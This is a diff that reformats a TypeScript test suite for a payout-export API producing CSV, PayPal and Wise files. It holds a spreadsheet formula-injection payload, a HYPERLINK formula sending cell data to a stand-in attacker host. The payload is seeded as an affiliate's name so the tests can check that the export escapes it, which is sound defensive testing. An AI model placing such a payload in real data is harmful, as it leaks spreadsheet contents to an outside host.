@@ -11,12 +11,33 @@ import type { Payout } from '../../src/domain/payout.js'
 import { at, payout as samplePayout } from '../../src/storage/sample-records.js'
 import { memoryStorage, sqlJsStorage, type Storage } from '../../src/index.js'
 import { dropSchema, needs, POSTGRES_VAR, postgresUrl, testPool, uniqueName } from '../support/services.js'
-import { apiCampaignInput, expectValidation, fieldError, KEY_A, KEY_B, setup, UNKNOWN_ID, USER_A, WS_A, WS_A2, WS_B } from '../support/helpers.js'
+import {
+  apiCampaignInput,
+  expectValidation,
+  fieldError,
+  KEY_A,
+  KEY_B,
+  setup,
+  UNKNOWN_ID,
+  USER_A,
+  WS_A,
+  WS_A2,
+  WS_B,
+} from '../support/helpers.js'
 
 type Api = ReturnType<typeof setup>['api']
 
 const PAST = '2025-10-01T12:00:00.000Z'
-const WISE_HEADER = ['name', 'recipientEmail', 'paymentReference', 'receiverType', 'amountCurrency', 'amount', 'sourceCurrency', 'targetCurrency']
+const WISE_HEADER = [
+  'name',
+  'recipientEmail',
+  'paymentReference',
+  'receiverType',
+  'amountCurrency',
+  'amount',
+  'sourceCurrency',
+  'targetCurrency',
+]
 const EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 
 /** Rows of a CSV file, every value a string, as a spreadsheet or a provider's parser reads it. */
@@ -36,21 +57,55 @@ const csvRow = (emails: ReadonlyMap<string, string>) => (payout: Payout) =>
  * transfer, each with commissions long due; then a payout run per workspace.
  */
 async function seed(api: Api) {
-  const usd = await api.campaigns.create(apiCampaignInput({ campaignName: 'Dollars', currency: 'USD', payoutTerm: 30, commissionType: 'fixed', amount: 10, minimumPayoutAmount: 0 }))
-  const eur = await api.campaigns.create(apiCampaignInput({ campaignName: 'Euros', currency: 'EUR', payoutTerm: 30, commissionType: 'fixed', amount: 10 }))
-  const other = await api.campaigns.create(apiCampaignInput({ workspaceId: WS_B, campaignName: 'Elsewhere', currency: 'USD', payoutTerm: 30 }))
+  const usd = await api.campaigns.create(
+    apiCampaignInput({
+      campaignName: 'Dollars',
+      currency: 'USD',
+      payoutTerm: 30,
+      commissionType: 'fixed',
+      amount: 10,
+      minimumPayoutAmount: 0,
+    }),
+  )
+  const eur = await api.campaigns.create(
+    apiCampaignInput({ campaignName: 'Euros', currency: 'EUR', payoutTerm: 30, commissionType: 'fixed', amount: 10 }),
+  )
+  const other = await api.campaigns.create(
+    apiCampaignInput({ workspaceId: WS_B, campaignName: 'Elsewhere', currency: 'USD', payoutTerm: 30 }),
+  )
   const affiliate = (campaignId: string, email: string, extra: Partial<AffiliateCreateInput>) =>
     api.affiliates.create({ campaignId, email, ...extra })
-  const ann = await affiliate(usd.id, 'ann@example.com', { firstName: 'Ann', lastName: 'Lee', payoutMethod: 'PAYPAL', payoutEmail: 'ann.pay@example.com' })
+  const ann = await affiliate(usd.id, 'ann@example.com', {
+    firstName: 'Ann',
+    lastName: 'Lee',
+    payoutMethod: 'PAYPAL',
+    payoutEmail: 'ann.pay@example.com',
+  })
   const bob = await affiliate(usd.id, 'bob@example.com', { payoutMethod: 'WISE', payoutEmail: 'bob.wise@example.com' })
-  const eve = await affiliate(usd.id, 'eve@example.com', { firstName: EVIL_NAME, lastName: 'Smith', payoutMethod: 'WISE', payoutEmail: 'eve@example.com' })
+  const eve = await affiliate(usd.id, 'eve@example.com', {
+    firstName: EVIL_NAME,
+    lastName: 'Smith',
+    payoutMethod: 'WISE',
+    payoutEmail: 'eve@example.com',
+  })
   const cy = await affiliate(usd.id, 'cy@example.com', { firstName: 'Cy', payoutMethod: 'BANK_TRANSFER', payoutEmail: 'cy@example.com' })
-  const zoe = await affiliate(eur.id, 'zoe@example.com', { firstName: 'Zoë', lastName: "O'Brien, Jr.", payoutMethod: 'WISE', payoutEmail: 'zoe@example.com' })
+  const zoe = await affiliate(eur.id, 'zoe@example.com', {
+    firstName: 'Zoë',
+    lastName: "O'Brien, Jr.",
+    payoutMethod: 'WISE',
+    payoutEmail: 'zoe@example.com',
+  })
   const dan = await affiliate(eur.id, 'dan@example.com', { firstName: 'Dan', payoutMethod: 'PAYPAL', payoutEmail: 'dan@example.com' })
   const far = await affiliate(other.id, 'far@example.com', { firstName: 'Far', payoutMethod: 'PAYPAL', payoutEmail: 'far@example.com' })
   const earn = async (campaignId: string, affiliateId: string, amounts: number[]) => {
     for (const [i, amount] of amounts.entries()) {
-      await api.commissions.create({ campaignId, affiliateId, amount, referredUser: `buyer${i}-${affiliateId.slice(0, 4)}@example.com`, commissionDate: PAST })
+      await api.commissions.create({
+        campaignId,
+        affiliateId,
+        amount,
+        referredUser: `buyer${i}-${affiliateId.slice(0, 4)}@example.com`,
+        commissionDate: PAST,
+      })
     }
   }
   await earn(usd.id, ann.id, [10.5, 20])
@@ -65,7 +120,15 @@ async function seed(api: Api) {
   const byAffiliate = (id: string) => runA.payouts.find((p) => p.affiliateId === id)!
   return {
     campaigns: { usd, eur, other },
-    payouts: { ann: byAffiliate(ann.id), bob: byAffiliate(bob.id), eve: byAffiliate(eve.id), cy: byAffiliate(cy.id), zoe: byAffiliate(zoe.id), dan: byAffiliate(dan.id), far: runB.payouts[0]! },
+    payouts: {
+      ann: byAffiliate(ann.id),
+      bob: byAffiliate(bob.id),
+      eve: byAffiliate(eve.id),
+      cy: byAffiliate(cy.id),
+      zoe: byAffiliate(zoe.id),
+      dan: byAffiliate(dan.id),
+      far: runB.payouts[0]!,
+    },
     all: runA.payouts,
     emails: new Map([ann, bob, eve, cy, zoe, dan, far].map((a) => [a.id, a.email])),
   }
@@ -88,7 +151,25 @@ describe('GET /payouts/export', () => {
     // RFC 4180 line ends.
     expect(response.text.split('\r\n')[0]).toBe(Object.keys(payouts.ann).join(',').replace('affiliateId,', 'affiliateId,affiliateEmail,'))
     const [header, ...rows] = rowsOf(response.text)
-    expect(header).toEqual(['payoutId', 'workspaceId', 'campaignId', 'affiliateId', 'affiliateEmail', 'currency', 'amount', 'commissionCount', 'status', 'payoutMethod', 'payoutEmail', 'periodEnd', 'externalReference', 'failureReason', 'paidAt', 'createdAt', 'updatedAt'])
+    expect(header).toEqual([
+      'payoutId',
+      'workspaceId',
+      'campaignId',
+      'affiliateId',
+      'affiliateEmail',
+      'currency',
+      'amount',
+      'commissionCount',
+      'status',
+      'payoutMethod',
+      'payoutEmail',
+      'periodEnd',
+      'externalReference',
+      'failureReason',
+      'paidAt',
+      'createdAt',
+      'updatedAt',
+    ])
     expect(rows).toEqual(inExportOrder(all).map(csvRow(emails)))
     // Amounts with two decimals and their currency, as the API answers them; the other workspace's payout is not there.
     const ann = rows.find((row) => row[0] === payouts.ann.payoutId)!
@@ -109,7 +190,11 @@ describe('GET /payouts/export', () => {
       inExportOrder([payouts.ann, payouts.dan]).map((p) => [p.payoutEmail, p.amount, p.currency, p.payoutId, note(p), 'PAYPAL']),
     )
     expect(rows.map((row) => row.slice(0, 3))).toEqual(
-      inExportOrder([payouts.ann, payouts.dan]).map((p) => [p === payouts.ann ? 'ann.pay@example.com' : 'dan@example.com', p === payouts.ann ? '30.50' : '12.00', p.currency]),
+      inExportOrder([payouts.ann, payouts.dan]).map((p) => [
+        p === payouts.ann ? 'ann.pay@example.com' : 'dan@example.com',
+        p === payouts.ann ? '30.50' : '12.00',
+        p.currency,
+      ]),
     )
   })
 
@@ -118,7 +203,16 @@ describe('GET /payouts/export', () => {
     const { payouts } = await seed(api)
     const [header, ...rows] = rowsOf((await call('GET', '/payouts/export?format=wise')).text)
     expect(header).toEqual(WISE_HEADER)
-    const expected = (p: Payout, name: string) => [name, p.payoutEmail, p.payoutId.slice(0, 8), 'PERSON', 'target', p.amount, p.currency, p.currency]
+    const expected = (p: Payout, name: string) => [
+      name,
+      p.payoutEmail,
+      p.payoutId.slice(0, 8),
+      'PERSON',
+      'target',
+      p.amount,
+      p.currency,
+      p.currency,
+    ]
     expect(rows).toEqual(
       inExportOrder([payouts.bob, payouts.eve, payouts.zoe]).map((p) =>
         expected(p, p === payouts.bob ? 'bob@example.com' : p === payouts.eve ? `'${EVIL_NAME} Smith` : "Zoë O'Brien, Jr."),
@@ -161,7 +255,11 @@ describe('GET /payouts/export', () => {
   it('filters: status (default pending), campaignId, repeated payoutId, workspaceId; other workspaces never appear', async () => {
     const { api, call } = setup()
     const { payouts, campaigns, all } = await seed(api)
-    const ids = (text: string) => rowsOf(text).slice(1).map((row) => row[0]).sort()
+    const ids = (text: string) =>
+      rowsOf(text)
+        .slice(1)
+        .map((row) => row[0])
+        .sort()
     const sorted = (list: Payout[]) => list.map((p) => p.payoutId).sort()
     await api.payouts.update(payouts.bob.payoutId, { status: 'processing' })
     const pending = all.filter((p) => p !== payouts.bob)
@@ -169,7 +267,9 @@ describe('GET /payouts/export', () => {
     expect(ids((await call('GET', '/payouts/export?format=csv&status=pending')).text)).toEqual(sorted(pending))
     expect(ids((await call('GET', '/payouts/export?format=csv&status=processing')).text)).toEqual([payouts.bob.payoutId])
     expect(ids((await call('GET', '/payouts/export?format=csv&status=paid')).text)).toEqual([])
-    expect(ids((await call('GET', `/payouts/export?format=csv&campaignId=${campaigns.eur.id}`)).text)).toEqual(sorted([payouts.zoe, payouts.dan]))
+    expect(ids((await call('GET', `/payouts/export?format=csv&campaignId=${campaigns.eur.id}`)).text)).toEqual(
+      sorted([payouts.zoe, payouts.dan]),
+    )
     const two = `payoutId=${payouts.ann.payoutId}&payoutId=${payouts.zoe.payoutId.toUpperCase()}`
     expect(ids((await call('GET', `/payouts/export?format=csv&${two}`)).text)).toEqual(sorted([payouts.ann, payouts.zoe]))
     expect(ids((await call('GET', `/payouts/export?format=csv&payoutId=${payouts.ann.payoutId}`)).text)).toEqual([payouts.ann.payoutId])
@@ -185,7 +285,9 @@ describe('GET /payouts/export', () => {
     expect(refused.headers.get('content-type')).toBe('application/json; charset=utf-8')
     expect(refused.body).toEqual({ status: 403, code: 'forbidden', message: 'You do not have access to this workspace' })
     // The method filter and the other filters together.
-    expect(rowsOf((await call('GET', `/payouts/export?format=paypal&campaignId=${campaigns.usd.id}`)).text).map((r) => r[3])).toEqual([payouts.ann.payoutId])
+    expect(rowsOf((await call('GET', `/payouts/export?format=paypal&campaignId=${campaigns.usd.id}`)).text).map((r) => r[3])).toEqual([
+      payouts.ann.payoutId,
+    ])
     expect(rowsOf((await call('GET', `/payouts/export?format=paypal&payoutId=${payouts.bob.payoutId}&status=processing`)).text)).toEqual([])
   })
 
@@ -204,14 +306,20 @@ describe('GET /payouts/export', () => {
       fieldError('format', 'format must be one of: csv, paypal, wise', 'query'),
       fieldError('status', 'status must be one of: pending, processing, paid, failed, canceled', 'query'),
     ])
-    expectValidation(await call('GET', `/payouts/export?format=csv&payoutId=${UNKNOWN_ID}&payoutId=nope&payoutId=${UNKNOWN_ID}&payoutId=x`), [
-      fieldError('payoutId[1]', 'payoutId[1] must be a UUID', 'query'),
-      fieldError('payoutId[3]', 'payoutId[3] must be a UUID', 'query'),
-    ])
+    expectValidation(
+      await call('GET', `/payouts/export?format=csv&payoutId=${UNKNOWN_ID}&payoutId=nope&payoutId=${UNKNOWN_ID}&payoutId=x`),
+      [fieldError('payoutId[1]', 'payoutId[1] must be a UUID', 'query'), fieldError('payoutId[3]', 'payoutId[3] must be a UUID', 'query')],
+    )
     const many = Array.from({ length: 501 }, () => `payoutId=${UNKNOWN_ID}`).join('&')
-    expectValidation(await call('GET', `/payouts/export?format=csv&${many}`), [fieldError('payoutId', 'payoutId must be one to 500 UUIDs', 'query')])
-    expectValidation(await call('GET', '/payouts/export?format=csv&format=wise'), [fieldError('format', 'format must be given once', 'query')])
-    expectValidation(await call('GET', '/payouts/export?format=csv&affiliateId=x'), [fieldError('affiliateId', 'affiliateId is not a known field', 'query')])
+    expectValidation(await call('GET', `/payouts/export?format=csv&${many}`), [
+      fieldError('payoutId', 'payoutId must be one to 500 UUIDs', 'query'),
+    ])
+    expectValidation(await call('GET', '/payouts/export?format=csv&format=wise'), [
+      fieldError('format', 'format must be given once', 'query'),
+    ])
+    expectValidation(await call('GET', '/payouts/export?format=csv&affiliateId=x'), [
+      fieldError('affiliateId', 'affiliateId is not a known field', 'query'),
+    ])
   })
 
   it('the typed API and the client give the same file, with its name and type, as a stream', async () => {
@@ -227,14 +335,23 @@ describe('GET /payouts/export', () => {
       expect(typed.body).toBeInstanceOf(ReadableStream)
       expect(await textOf(typed.body)).toBe(overHttp.text)
       const { createAffiliateClient } = await import('../../src/client/index.js')
-      const client = createAffiliateClient({ baseUrl: 'http://test.local/api/v1', apiKey: KEY_A, fetch: (request) => service.fetch(request) })
+      const client = createAffiliateClient({
+        baseUrl: 'http://test.local/api/v1',
+        apiKey: KEY_A,
+        fetch: (request) => service.fetch(request),
+      })
       const viaClient = await client.payouts.export({ format })
       expect([viaClient.filename, viaClient.contentType]).toEqual([typed.filename, typed.contentType])
       expect(await textOf(viaClient.body)).toBe(overHttp.text)
     }
     // A repeated query name is a list in the typed API; a key's limits hold there too (`as`).
     const two = await api.payouts.export({ format: 'csv', payoutId: [payouts.ann.payoutId, payouts.dan.payoutId] })
-    expect(rowsOf(await textOf(two.body)).slice(1).map((r) => r[0]).sort()).toEqual([payouts.ann.payoutId, payouts.dan.payoutId].sort())
+    expect(
+      rowsOf(await textOf(two.body))
+        .slice(1)
+        .map((r) => r[0])
+        .sort(),
+    ).toEqual([payouts.ann.payoutId, payouts.dan.payoutId].sort())
     const asB = api.as({ keyId: 'key-b', userId: 'someone', workspaceIds: [WS_B] })
     await expect(asB.payouts.export({ format: 'csv', workspaceId: WS_A })).rejects.toMatchObject({ status: 403 })
   })
@@ -245,7 +362,14 @@ async function insertPayouts(storage: Storage, count: number, overrides: (i: num
   const ids: string[] = []
   await storage.transaction(async (tx) => {
     for (let i = 0; i < count; i++) {
-      const record = samplePayout({ workspaceId: WS_A, createdAt: at(i), updatedAt: at(i), payoutEmail: `p${i}@example.com`, amountMinor: 100 + i, ...overrides(i) })
+      const record = samplePayout({
+        workspaceId: WS_A,
+        createdAt: at(i),
+        updatedAt: at(i),
+        payoutEmail: `p${i}@example.com`,
+        amountMinor: 100 + i,
+        ...overrides(i),
+      })
       ids.push(record.id)
       await tx.insert('payouts', record)
     }
@@ -319,7 +443,9 @@ describe('GET /payouts/export: streaming', () => {
     expect(size).toBeGreaterThan(5_000_000)
     // What the export holds at once is a page (500 payouts, ~260 kB of text), not the file.
     expect(peak).toBeLessThan(size / 4)
-    console.log(`export of 10k payouts: file ${(size / 1e6).toFixed(2)} MB in ${pieces} pieces, peak heap growth ${(peak / 1e3).toFixed(0)} kB`)
+    console.log(
+      `export of 10k payouts: file ${(size / 1e6).toFixed(2)} MB in ${pieces} pieces, peak heap growth ${(peak / 1e3).toFixed(0)} kB`,
+    )
   })
 })
 
@@ -344,7 +470,9 @@ function changingWhileExporting(make: () => Promise<Storage> | Storage) {
       if (done) break
       text += decoder.decode(value)
     }
-    const written = rowsOf(text).slice(1).map((row) => row[0])
+    const written = rowsOf(text)
+      .slice(1)
+      .map((row) => row[0])
     expect(new Set(written).size).toBe(written.length)
     expect(written).toEqual(ids.filter((_, i) => i !== 900))
   })
@@ -358,10 +486,11 @@ function changingWhileExporting(make: () => Promise<Storage> | Storage) {
     let text = new TextDecoder().decode((await reader.read()).value)
     await api.payouts.update(ids[0]!, { status: 'failed' })
     for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) text += new TextDecoder().decode(chunk.value)
-    const written = rowsOf(text).slice(1).map((row) => row[0])
+    const written = rowsOf(text)
+      .slice(1)
+      .map((row) => row[0])
     expect(written).toEqual(ids.slice(1))
   })
-
 }
 
 describe('GET /payouts/export on memory storage: payouts changing while it runs', () => changingWhileExporting(() => memoryStorage()))
@@ -385,7 +514,7 @@ describe.skipIf(!postgresUrl)(needs('GET /payouts/export on PostgreSQL: payouts 
   })
 })
 
-describe('GET /payouts/export: the key\'s in-flight slot', () => {
+describe("GET /payouts/export: the key's in-flight slot", () => {
   it('is held while the file is being read, and freed when it ends or the reader cancels', async () => {
     const { service, storage } = setup({ rateLimit: { capacity: 100, refillPerSecond: 100, maxInFlight: 1 } })
     await insertPayouts(storage, 1_200)
@@ -432,5 +561,4 @@ describe('GET /payouts/export over real HTTP (serve)', () => {
     expect(rows).toHaveLength(1 + 1_200)
     expect(new Set(rows.slice(1).map((row) => row[0])).size).toBe(1_200)
   })
-
 })
